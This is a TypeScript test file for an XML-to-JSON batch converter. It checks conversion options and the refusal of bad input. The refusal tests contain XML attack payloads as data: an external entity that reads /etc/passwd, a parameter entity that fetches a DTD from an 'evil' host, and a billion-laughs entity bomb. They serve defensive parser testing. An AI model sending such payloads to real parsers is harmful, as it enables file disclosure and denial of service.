import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { xmlToJsonTaskSchema } from '../../../runtime/config/files-schema';
import { positionOf, type FileTaskIo } from '../../../batch-jobs/tasks/file-task';
import { createXmlToJsonTask, decodeXml, XmlToJson } from '../../../batch-jobs/tasks/xml-to-json';

const converter = (options: Record<string, unknown> = {}) => new XmlToJson(xmlToJsonTaskSchema.parse({ type: 'xml-to-json', ...options }));
const convert = (xml: string, options: Record<string, unknown> = {}) => JSON.parse(converter(options).convert(xml)) as unknown;
const failure = (xml: string, options: Record<string, unknown> = {}): string => {
  try {
    converter(options).convert(xml);
  } catch (err) {
    return (err as Error).message;
  }
  assert.fail('expected the conversion to fail');
};

const ORDER = `<?xml version="1.0" encoding="UTF-8"?>
<orders>
  <order id="00042" status="open">
    <customer>00123</customer>
    <note><![CDATA[fragile: <glass> & "porcelain"]]></note>
    <line sku="A-1"><qty>2</qty><price>9.50</price></line>
  </order>
</orders>`;

describe('xml-to-json conversion', () => {
  it('keeps attributes under the prefix, element text and CDATA, and every value as text', () => {
    assert.deepEqual(convert(ORDER), {
      orders: {
        order: {
          '@id': '00042',
          '@status': 'open',
          customer: '00123',
          note: 'fragile: <glass> & "porcelain"',
          line: { '@sku': 'A-1', qty: '2', price: '9.50' },
        },
      },
    });
  });

  it('uses the configured attribute prefix and text key', () => {
    assert.deepEqual(convert('<a n="1">x</a>', { attributePrefix: '_', textKey: 'value' }), { a: { _n: '1', value: 'x' } });
  });

  it('makes repeated elements arrays, and alwaysArray paths arrays even with one element', () => {
    const two = '<orders><order><line>a</line><line>b</line></order></orders>';
    const one = '<orders><order><line>a</line></order></orders>';
    assert.deepEqual(convert(two), { orders: { order: { line: ['a', 'b'] } } });
    assert.deepEqual(convert(one), { orders: { order: { line: 'a' } } });
    const stable = { alwaysArray: ['orders.order', 'orders.order.line'] };
    assert.deepEqual(convert(one, stable), { orders: { order: [{ line: ['a'] }] } });
    assert.deepEqual(convert(two, stable), { orders: { order: [{ line: ['a', 'b'] }] } });
  });

  it('converts only the declared numeric paths, elements and attributes, and refuses a non-number there', () => {
    const numeric = { numeric: ['orders.order.line.qty', 'orders.order.line.price', 'orders.order.@id'] };
    const out = convert(ORDER, numeric) as { orders: { order: Record<string, unknown> & { line: Record<string, unknown> } } };
    assert.equal(out.orders.order['@id'], 42);
    assert.equal(out.orders.order.customer, '00123');
    assert.deepEqual(out.orders.order.line, { '@sku': 'A-1', qty: 2, price: 9.5 });
    assert.match(failure('<orders><order><line><qty>two</qty></line></order></orders>', numeric), /orders\.order\.line\.qty .*"two"/);
  });

  it('keeps namespace prefixes by default and removes them when configured', () => {
    const xml = '<ns:order xmlns:ns="urn:x" ns:id="7"><ns:total>1</ns:total></ns:order>';
    assert.deepEqual(convert(xml), { 'ns:order': { 'ns:total': '1', '@xmlns:ns': 'urn:x', '@ns:id': '7' } });
    assert.deepEqual(convert(xml, { removeNamespacePrefixes: true }), { order: { total: '1', '@id': '7' } });
  });

  it('decodes character references and the XML entities, and expands plain internal entities', () => {
    assert.deepEqual(convert('<a>&#65;&#x42; &lt;&amp;&gt;</a>'), { a: 'AB <&>' });
    assert.deepEqual(convert('<!DOCTYPE a [<!ENTITY co "Acme Ltd">]><a>&co;</a>'), { a: 'Acme Ltd' });
  });
});

describe('xml-to-json refusals', () => {
  it('reports malformed XML with its line and column', () => {
    const message = failure('<orders>\n  <order>\n    <id>1</idx>\n  </order>\n</orders>');
    assert.match(message, /^malformed XML: .*closing tag/);
    assert.deepEqual(positionOf(message), { line: 3, column: 10 });
  });

  it('refuses an empty file and a file that is not XML', () => {
    assert.match(failure('  \n '), /the file is empty/);
    assert.match(failure('id,name\n1,x\n'), /not an XML file: it starts with "id,name/);
    assert.throws(() => decodeXml(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0xff, 0xfe, 0xfd, 0x80])), /not UTF-8 text/);
  });

  it('refuses external entities without reading what they point at', () => {
    const message = failure('<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>');
    assert.match(message, /external entity "x" is refused/);
    assert.deepEqual(positionOf(message), { line: 2, column: 14 });
    assert.match(failure('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a/>'), /parameter entity "p" is refused/);
  });

  it('fails a "billion laughs" file at once instead of expanding it', () => {
    let entities = '<!ENTITY lol "lol">';
    for (let i = 1; i <= 9; i++) entities += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
    const before = process.memoryUsage().heapUsed;
    assert.match(failure(`<!DOCTYPE lolz [${entities}]><lolz>&lol9;</lolz>`), /nested entity expansion is refused/);
    assert.ok(process.memoryUsage().heapUsed - before < 50 * 1024 * 1024);
  });

  it('fails a file whose plain entities would expand past the limit', () => {
    const xml = `<!DOCTYPE a [<!ENTITY big "${'A'.repeat(9_000)}">]><a>${'&big;'.repeat(200)}</a>`;
    assert.match(failure(xml), /entity expansion passes the limit/);
  });
});

describe('xml-to-json task', () => {
  const io = (bytes: Buffer, written: Map<string, Buffer>): FileTaskIo => ({
    read: async (maxBytes) => {
      if (bytes.length > maxBytes) throw new Error(`over ${maxBytes}`);
      return bytes;
    },
    write: async (path, body) => {
      written.set(path, Buffer.from(body));
      return `results/x/run/${path}`;
    },
  });

  it('writes the JSON beside the relative path, .xml replaced by .json, and counts bytes', async () => {
    const task = createXmlToJsonTask(xmlToJsonTaskSchema.parse({ type: 'xml-to-json' }));
    const written = new Map<string, Buffer>();
    const input = Buffer.from('\ufeff<a>1</a>');
    const result = await task.run(
      { key: 'work/r/files/2026/a.XML', path: '2026/a.XML' },
      { attempt: 1, signal: new AbortController().signal, io: io(input, written) },
    );
    assert.deepEqual([...written.keys()], ['2026/a.json']);
    assert.deepEqual(JSON.parse(written.get('2026/a.json')!.toString()), { a: '1' });
    assert.deepEqual(result, { outputKey: 'results/x/run/2026/a.json', bytesIn: input.length, bytesOut: 9 });
  });
});
